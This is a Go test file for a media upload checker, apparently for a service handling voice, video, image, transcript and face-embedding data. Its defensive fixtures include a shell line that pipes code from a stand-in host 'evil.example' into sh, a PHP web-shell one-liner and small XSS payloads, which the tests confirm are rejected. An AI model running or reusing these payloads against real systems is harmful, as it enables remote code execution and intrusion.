package media

import (
	"bytes"
	"encoding/binary"
	"errors"
	"math"
	"strings"
	"testing"
)

// pad extends b with zeros to a full sniffing head, as a longer file would.
func pad(b []byte) []byte {
	if len(b) >= SniffLen {
		return b
	}
	return append(b, make([]byte, SniffLen-len(b))...)
}

func cat(parts ...string) []byte { return []byte(strings.Join(parts, "")) }

func le32(v uint32) string { return string(binary.LittleEndian.AppendUint32(nil, v)) }
func be32(v uint32) string { return string(binary.BigEndian.AppendUint32(nil, v)) }

// Realistic heads for every format, built from their specifications.
var (
	headWAV = pad(cat("RIFF", le32(36+88200), "WAVE", "fmt ", le32(16),
		"\x01\x00\x01\x00", le32(44100), le32(88200), "\x02\x00\x10\x00", "data", le32(88200)))
	headMP3Frames = func() []byte { // two MPEG-1 Layer III frames, 128 kbit/s, 44.1 kHz
		frame := make([]byte, 417)
		copy(frame, "\xff\xfb\x90\x64")
		return append(append([]byte{}, frame...), frame...)
	}()
	headMP3ID3  = pad(cat("ID3\x04\x00\x00\x00\x00\x00\x15", "TIT2\x00\x00\x00\x0b\x00\x00\x03Interview", "\xff\xfb\x90\x64"))
	headFLAC    = pad(cat("fLaC", "\x00\x00\x00\x22", "\x10\x00\x10\x00\x00\x00\x0e\x00\x1f\x3d\x0a\xc4\x42\xf0\x00\x00\x00\x00"))
	headID3FLAC = pad(cat("ID3\x03\x00\x00\x00\x00\x00\x00", "fLaC\x00\x00\x00\x22"))
	headOpus    = pad(cat("OggS\x00\x02", strings.Repeat("\x00", 8), "\x01\x02\x03\x04", le32(0), le32(0x1234), "\x01\x13",
		"OpusHead\x01\x01\x38\x01\x80\xbb\x00\x00\x00\x00\x00"))
	headVorbis = pad(cat("OggS\x00\x02", strings.Repeat("\x00", 8), "\x01\x02\x03\x04", le32(0), le32(0x1234), "\x01\x1e",
		"\x01vorbis\x00\x00\x00\x00\x01\x44\xac\x00\x00"))
	headTheora = pad(cat("OggS\x00\x02", strings.Repeat("\x00", 8), "\x01\x02\x03\x04", le32(0), le32(0x1234), "\x01\x2a",
		"\x80theora\x03\x02\x01"))
	headM4A  = pad(cat(be32(0x20), "ftyp", "M4A ", be32(0), "M4A mp42isom\x00\x00\x00\x00", be32(8), "free"))
	headMP4  = pad(cat(be32(0x20), "ftyp", "isom", be32(0x200), "isomiso2avc1mp41", be32(8), "free"))
	headMP42 = pad(cat(be32(0x18), "ftyp", "mp42", be32(0), "mp42isom", be32(8), "wide"))
	headM4V  = pad(cat(be32(0x1c), "ftyp", "M4V ", be32(1), "M4V M4A mp42isom"))
	headMOV  = pad(cat(be32(0x14), "ftyp", "qt  ", be32(0x200), "qt  ", be32(8), "wide"))
	headHEIC = pad(cat(be32(0x18), "ftyp", "heic", be32(0), "mif1heic", be32(0x100), "meta"))
	headHEIF = pad(cat(be32(0x18), "ftyp", "mif1", be32(0), "mif1heic", be32(0x100), "meta"))
	headAVIF = pad(cat(be32(0x1c), "ftyp", "avif", be32(0), "avifmif1miaf", be32(0x100), "meta"))
	headWebM = pad(cat("\x1a\x45\xdf\xa3\x9f", "\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08",
		"\x42\x82\x84webm", "\x42\x87\x81\x04\x42\x85\x81\x02", "\x18\x53\x80\x67\x01\x00\x00\x00\x00\x00\x00\x00"))
	headMKV = pad(cat("\x1a\x45\xdf\xa3\xa3", "\x42\x86\x81\x01\x42\xf7\x81\x01\x42\xf2\x81\x04\x42\xf3\x81\x08",
		"\x42\x82\x88matroska", "\x42\x87\x81\x04\x42\x85\x81\x02"))
	headJPEG = pad(cat("\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00", "\xff\xdb\x00\x43\x00"))
	headPNG  = pad(cat("\x89PNG\r\n\x1a\n", be32(13), "IHDR", be32(640), be32(480), "\x08\x06\x00\x00\x00", be32(0xdeadbeef)))
	headWebP = pad(cat("RIFF", le32(0x2000), "WEBP", "VP8L", le32(0x1ff0), "\x2f\x7f\xc0\x77\x00"))
	headText = []byte("Speaker 1: Grüß Gott, this call is recorded with your consent.\nSpeaker 2: Yes, that's fine.\n")
	headJSON = []byte(`{"language":"de","segments":[{"start":0.0,"end":1.5,"text":"Grüß Gott"}]}`)
	// A long transcript cut in the middle of "ß" by the 512-byte head.
	headTextCut = func() []byte {
		b := []byte(strings.Repeat("a", SniffLen-1) + "ß and more")
		return b[:SniffLen]
	}()
	headJSONCut = func() []byte {
		b := []byte(`{"segments":[` + strings.Repeat(`{"start":1.25,"text":"hello there"},`, 40))
		return b[:SniffLen]
	}()
	// A face embedding: 128 little-endian float32s.
	headTemplate = func() []byte {
		var b []byte
		for i := range 128 {
			b = binary.LittleEndian.AppendUint32(b, math.Float32bits(float32(math.Sin(float64(i)+0.5))))
		}
		return b
	}()
	headScript = []byte("#!/bin/sh\ncurl http://evil.example/x | sh\n")
	headHTML   = []byte("<html><body><script>alert(1)</script></body></html>")
)

func TestSniffRecognisesEveryAcceptedFormat(t *testing.T) {
	tests := []struct {
		name string
		head []byte
		want Type
	}{
		{"wav", headWAV, Type{"audio/wav", "voice", ".wav"}},
		{"mp3 frames", headMP3Frames, Type{"audio/mpeg", "voice", ".mp3"}},
		{"mp3 id3", headMP3ID3, Type{"audio/mpeg", "voice", ".mp3"}},
		{"ogg opus", headOpus, Type{"audio/ogg", "voice", ".ogg"}},
		{"ogg vorbis", headVorbis, Type{"audio/ogg", "voice", ".ogg"}},
		{"flac", headFLAC, Type{"audio/flac", "voice", ".flac"}},
		{"flac behind id3", headID3FLAC, Type{"audio/flac", "voice", ".flac"}},
		{"m4a", headM4A, Type{"audio/mp4", "voice", ".m4a"}},
		{"mp4 isom", headMP4, Type{"video/mp4", "video", ".mp4"}},
		{"mp4 mp42", headMP42, Type{"video/mp4", "video", ".mp4"}},
		{"m4v", headM4V, Type{"video/mp4", "video", ".mp4"}},
		{"quicktime", headMOV, Type{"video/quicktime", "video", ".mov"}},
		{"webm", headWebM, Type{"video/webm", "video", ".webm"}},
		{"matroska", headMKV, Type{"video/webm", "video", ".webm"}},
		{"jpeg", headJPEG, Type{"image/jpeg", "image", ".jpg"}},
		{"png", headPNG, Type{"image/png", "image", ".png"}},
		{"webp", headWebP, Type{"image/webp", "image", ".webp"}},
		{"heic", headHEIC, Type{"image/heic", "image", ".heic"}},
		{"heif mif1", headHEIF, Type{"image/heic", "image", ".heic"}},
		{"text", headText, Type{"text/plain; charset=utf-8", "transcript", ".txt"}},
		{"text cut mid-rune", headTextCut, Type{"text/plain; charset=utf-8", "transcript", ".txt"}},
		{"json", headJSON, Type{"application/json", "transcript", ".json"}},
		{"json cut", headJSONCut, Type{"application/json", "transcript", ".json"}},
		{"text with a magic-looking start", []byte("MZ: Hello?\nBM: Hi.\n"), Type{"text/plain; charset=utf-8", "transcript", ".txt"}},
		{"template", headTemplate, Type{"application/octet-stream", "biometric_template", ".bin"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Sniff(tt.head)
			if err != nil {
				t.Fatalf("Sniff: %v", err)
			}
			if got != tt.want {
				t.Errorf("Sniff = %+v, want %+v", got, tt.want)
			}
		})
	}
}

func TestSniffRefusesWhatIsNotMedia(t *testing.T) {
	tests := []struct {
		name string
		head []byte
		says string // in the message
	}{
		{"empty", nil, "empty"},
		{"shell script", headScript, "script"},
		{"python script", []byte("#!/usr/bin/env python3\nimport os\n"), "script"},
		{"html", headHTML, "text/html"},
		{"html doctype", []byte("\n  <!DOCTYPE html>\n<title>x</title>"), "text/html"},
		{"svg", []byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), "image/svg+xml"},
		{"xml", []byte(`<?xml version="1.0"?><a/>`), "application/xml"},
		{"php", []byte("<?php system($_GET['c']); ?>"), "php"},
		{"elf", pad(cat("\x7fELF\x02\x01\x01\x00")), "executable"},
		{"windows exe", pad(cat("MZ\x90\x00\x03\x00\x00\x00\x04\x00")), "executable"},
		{"mach-o", pad(cat("\xcf\xfa\xed\xfe\x07\x00\x00\x01")), "executable"},
		{"zip", pad(cat("PK\x03\x04\x14\x00\x00\x00\x08\x00")), "application/zip"},
		{"gzip", pad(cat("\x1f\x8b\x08\x00")), "application/gzip"},
		{"pdf", []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), "application/pdf"},
		{"pdf, text only", []byte("%PDF-1.4\n1 0 obj\n"), "application/pdf"},
		{"gif", pad(cat("GIF89a\x01\x00\x01\x00\x80\x00\x00")), "image/gif"},
		{"avif", headAVIF, "image/avif"},
		{"avi", pad(cat("RIFF", le32(1000), "AVI LIST")), "video/x-msvideo"},
		{"ogg theora", headTheora, "Ogg"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Sniff(tt.head)
			if !errors.Is(err, ErrUnknown) {
				t.Fatalf("Sniff = %+v, %v; want ErrUnknown", got, err)
			}
			if !strings.Contains(err.Error(), tt.says) {
				t.Errorf("message %q does not say %q", err, tt.says)
			}
		})
	}
}

func TestSniffNeedsASecondMPEGFrameWhenOneIsInView(t *testing.T) {
	head := append([]byte{}, headMP3Frames...)
	copy(head[417:], "junk")
	got, err := Sniff(head)
	if err != nil || got.MIME == "audio/mpeg" {
		t.Errorf("Sniff = %+v, %v; want not audio/mpeg", got, err)
	}
}

func TestCheckAcceptsMatchingUploads(t *testing.T) {
	tests := []struct {
		declared, category string
		head               []byte
		want               Type
	}{
		{"image/jpeg", "image", headJPEG, typeJPEG},
		{"image/jpg", "image", headJPEG, typeJPEG},
		{"IMAGE/JPEG; name=\"a.jpg\"", "image", headJPEG, typeJPEG},
		{"image/png", "image", headPNG, typePNG},
		{"image/webp", "image", headWebP, typeWebP},
		{"image/heif", "image", headHEIC, typeHEIC},
		{"audio/wav", "voice", headWAV, typeWAV},
		{"audio/x-wav", "voice", headWAV, typeWAV},
		{"audio/wave", "voice", headWAV, typeWAV},
		{"audio/mpeg", "voice", headMP3Frames, typeMP3},
		{"audio/mpeg3", "voice", headMP3ID3, typeMP3},
		{"audio/ogg; codecs=opus", "voice", headOpus, typeOGG},
		{"audio/flac", "voice", headFLAC, typeFLAC},
		{"audio/x-m4a", "voice", headM4A, typeM4A},
		{"audio/mp4", "voice", headMP4, typeM4A},                     // audio-only MP4, generic brand
		{"audio/webm;codecs=opus", "voice", headWebM, typeAudioWebM}, // browser MediaRecorder
		{"video/mp4", "video", headMP4, typeMP4},
		{"video/quicktime", "video", headMOV, typeMOV},
		{"video/webm", "video", headWebM, typeWebM},
		{"video/x-matroska", "video", headMKV, typeWebM},
		{"text/plain; charset=utf-8", "transcript", headText, typeText},
		{"text/plain", "transcript", headTextCut, typeText},
		{"application/json", "transcript", headJSON, typeJSON},
		{"application/octet-stream", "biometric_template", headTemplate, typeBinary},
		{"application/json", "biometric_template", headJSON, Type{"application/json", "biometric_template", ".json"}},
	}
	for _, tt := range tests {
		t.Run(tt.declared+" as "+tt.category, func(t *testing.T) {
			got, err := Check(tt.declared, tt.category, tt.head)
			if err != nil {
				t.Fatalf("Check: %v", err)
			}
			if got != tt.want {
				t.Errorf("Check = %+v, want %+v", got, tt.want)
			}
		})
	}
}

func TestCheckRefusesMismatches(t *testing.T) {
	tests := []struct {
		name, declared, category string
		head                     []byte
		msg                      string // the whole message, if given
	}{
		{"script as jpeg", "image/jpeg", "image", headScript, "declared image/jpeg but the content is a script (text/x-script)"},
		{"html as jpeg", "image/jpeg", "image", headHTML, "declared image/jpeg but the content is text/html"},
		{"png as jpeg", "image/jpeg", "image", headPNG, "declared image/jpeg but the content is image/png"},
		{"exe as wav", "audio/wav", "voice", pad(cat("MZ\x90\x00")), ""},
		{"template as jpeg", "image/jpeg", "image", headTemplate, "declared image/jpeg but the content is application/octet-stream"},
		{"image as voice", "image/jpeg", "voice", headJPEG, "image/jpeg is an image, not a voice recording"},
		{"video as voice", "video/mp4", "voice", headMP4, "video/mp4 is a video, not a voice recording"},
		{"voice as image", "audio/wav", "image", headWAV, ""},
		{"m4v as audio", "audio/mp4", "voice", headM4V, "declared audio/mp4 but the content is video/mp4"},
		{"webm audio as video", "audio/webm", "video", headWebM, ""},
		{"heic as png", "image/png", "image", headHEIC, ""},
		{"transcript as image", "image/jpeg", "transcript", headText, "a transcript must be text/plain or application/json, not image/jpeg"},
		{"binary transcript", "text/plain", "transcript", headTemplate, ""},
		{"audio transcript", "text/plain", "transcript", headWAV, ""},
		{"html transcript", "text/plain", "transcript", headHTML, "declared text/plain but the content is text/html"},
		{"text as json", "application/json", "transcript", headText, "declared application/json but the content is not valid JSON"},
		{"nul in text", "text/plain", "transcript", []byte("hello\x00world"), ""},
		{"exe template", "application/octet-stream", "biometric_template", pad(cat("\x7fELF\x02")), ""},
		{"zip template", "application/octet-stream", "biometric_template", pad(cat("PK\x03\x04")), ""},
		{"jpeg template", "application/octet-stream", "biometric_template", headJPEG, "declared application/octet-stream but the content is image/jpeg"},
		{"template as png", "image/png", "biometric_template", headTemplate, ""},
		{"unknown category", "image/jpeg", "face", headJPEG, `data category "face" does not take uploaded content`},
		{"no content type", "", "image", headJPEG, ""},
		{"empty", "image/jpeg", "image", nil, "declared image/jpeg but the content is empty"},
		{"gif, declared so", "image/gif", "image", pad(cat("GIF89a\x01\x00\x01\x00")), "image/gif is not a format likeness takes for an image: send JPEG, PNG, WebP or HEIC"},
		{"avi, declared so", "video/x-msvideo", "video", pad(cat("RIFF\x00\x00\x00\x00AVI ")), "video/x-msvideo is not a format likeness takes for a video: send MP4, QuickTime or WebM"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Check(tt.declared, tt.category, tt.head)
			if !errors.Is(err, ErrMismatch) {
				t.Fatalf("Check = %+v, %v; want ErrMismatch", got, err)
			}
			if tt.msg != "" && err.Error() != tt.msg {
				t.Errorf("message = %q, want %q", err, tt.msg)
			}
		})
	}
}

func TestCheckMarksUnknownContentAsUnknownToo(t *testing.T) {
	_, err := Check("image/jpeg", "image", headScript)
	if !errors.Is(err, ErrMismatch) || !errors.Is(err, ErrUnknown) {
		t.Errorf("err = %v; want both ErrMismatch and ErrUnknown", err)
	}
}

func TestMessagesNeverQuoteTheContent(t *testing.T) {
	secret := []byte("#!/bin/sh\necho SECRET-TOKEN\n")
	for _, category := range []string{"image", "transcript", "biometric_template"} {
		_, err := Check("image/jpeg", category, secret)
		if err == nil || bytes.Contains([]byte(err.Error()), []byte("SECRET")) {
			t.Errorf("%s: err = %v", category, err)
		}
	}
}

func FuzzSniff(f *testing.F) {
	for _, h := range [][]byte{headWAV, headMP3Frames, headOpus, headM4A, headWebM, headJPEG, headText, headJSONCut, headTemplate} {
		f.Add(h)
	}
	f.Fuzz(func(t *testing.T, head []byte) {
		got, err := Sniff(head)
		if err == nil {
			if _, err := Check(got.MIME, got.Category, head); err != nil {
				t.Errorf("Check of sniffed %+v: %v", got, err)
			}
		}
	})
}
